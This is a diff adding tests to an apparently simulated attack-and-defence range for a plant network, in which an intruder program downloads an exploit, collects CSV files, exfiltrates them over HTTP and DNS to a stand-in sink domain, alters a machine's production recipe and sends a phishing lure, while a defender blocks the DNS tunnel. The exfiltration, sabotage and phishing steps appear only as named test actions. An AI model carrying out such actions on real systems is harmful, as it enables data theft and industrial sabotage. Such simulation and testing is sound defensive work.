@@ -118,6 +118,82 @@ async def test_loot_leaves_by_http_and_a_beacon_calls_home() -> None:
     assert counted["values"]
 
 
+async def test_what_is_uploaded_arrives_outside_byte_for_byte() -> None:
+    mes, attacker = application(139), intruder(139)
+    sink = Running("sink", "internet_sink", "127.139.0.9", {"canaries": ["water,500", "never sent"]})
+    async with programs(mes, sink, attacker):
+        await inside(attacker)
+        await did(attacker, "exploit_download", host="127.139.0.4")
+        await did(attacker, "collect", host="127.139.0.4", port=8081, paths=["/docs/recipes/water.csv"])
+        before = await sink.ask("received")
+        await did(attacker, "exfil_http", host="127.139.0.9", copies=3)
+        after = await sink.ask("received")
+
+    assert (before["http"], before["canaries"]) == (0, [])
+    assert (after["http"], after["dns"], after["canaries"]) == (3 * len(RECIPE), 0, ["water,500"])
+
+
+async def test_loot_leaves_in_name_queries_until_the_name_server_blocks_them() -> None:
+    rows = "number,name\n" + "".join(f"{n},customer {n}\n" for n in range(120))
+    mes = application(140, documents={"/customers.csv": rows})
+    dns = Running(
+        "dns", "dns_server", "127.140.0.3",
+        {"zone": "plant.example", "upstream": "127.140.0.9", "admin": {"user": "net", "password": "Namen 1"}},
+    )  # fmt: skip
+    sink = Running("sink", "internet_sink", "127.140.0.9", {"domain": "abc.cdn.example", "canaries": ["customer 119"]})
+    attacker = intruder(140)
+    tunnel = {"resolver": "127.140.0.3", "domain": "abc.cdn.example", "names": ["/docs/customers.csv"], "pause": 0}
+    async with programs(mes, dns, sink, attacker):
+        await inside(attacker)
+        await did(
+            attacker, "collect", host="127.140.0.4", port=8081, paths=["/docs/customers.csv"], user="boss",
+            password="geheim 1",
+        )  # fmt: skip
+        away = await did(attacker, "exfil_dns", **tunnel)
+        received = await sink.ask("received")
+        out = io.StringIO()
+        blocked = await web.main(
+            ["put", "http://127.140.0.3:8053/blocked/abc.cdn.example", "--user", "net", "--password", "Namen 1"],
+            attacker.net,
+            out,
+        )
+        again = await did(attacker, "exfil_dns", **tunnel)
+        later = await sink.ask("received")
+
+    assert (away["result"], away["bytes"], away["refused"]) == ("done", len(rows), 0)
+    assert (received["dns"], received["canaries"]) == (len(rows), ["customer 119"])
+    assert blocked == 0
+    assert (again["result"], again["reason"]) == ("blocked", "questions for abc.cdn.example are no longer answered")
+    assert later["dns"] == received["dns"]
+
+
+async def test_a_machine_told_to_run_another_program_gets_its_own_back() -> None:
+    mes, attacker = application(141), intruder(141)
+
+    async def planned() -> str:
+        out = io.StringIO()
+        await web.main(
+            ["get", "http://127.141.0.4:8081/jobs", "--user", "boss", "--password", "geheim 1"], attacker.net, out
+        )
+        return str(json.loads(out.getvalue())["m1"])
+
+    async with programs(mes, attacker):
+        await inside(attacker)
+        before = await planned()
+        told = await did(
+            attacker, "set_job", host="127.141.0.4", machine="m1", document="/recipes/juice.csv", user="boss",
+            password="geheim 1",
+        )  # fmt: skip
+        changed = await planned()
+        undone = await did(attacker, "undo")
+        after = await planned()
+
+    assert (told["result"], before, changed, after) == (
+        "done", "/recipes/water.csv", "/recipes/juice.csv", "/recipes/water.csv",
+    )  # fmt: skip
+    assert undone["restored"] == [{"target": "127.141.0.4", "machine": "m1", "document": "/recipes/water.csv"}]
+
+
 async def test_a_lure_reaches_the_mailboxes() -> None:
     mail, attacker = Running("mail", "mail_server", "127.135.0.6", {"domain": "plant.example"}), intruder(135)
     async with programs(mail, attacker):
@@ -129,9 +205,14 @@ async def test_a_lure_reaches_the_mailboxes() -> None:
             attacker, "phish", host="127.135.0.6", sender="bank@elsewhere.example", to=["x@strange.example"],
             subject="x", text="x",
         )  # fmt: skip
+        box = (await mail.ask("mailbox"))["messages"]
 
     assert (sent["result"], sent["to"]) == ("done", ["cashier@plant.example"])
     assert refused["result"] in ("done", "blocked")
+    assert [(one["from"], one["to"], one["subject"]) for one in box if "cashier" in str(one["to"])] == [
+        ("bank@elsewhere.example", ["cashier@plant.example"], "发票")
+    ]
+    assert box[0]["size"] > len("请打开附件".encode())
 
 
 async def test_a_wiped_trail_leaves_a_hole_that_the_collector_shows() -> None:
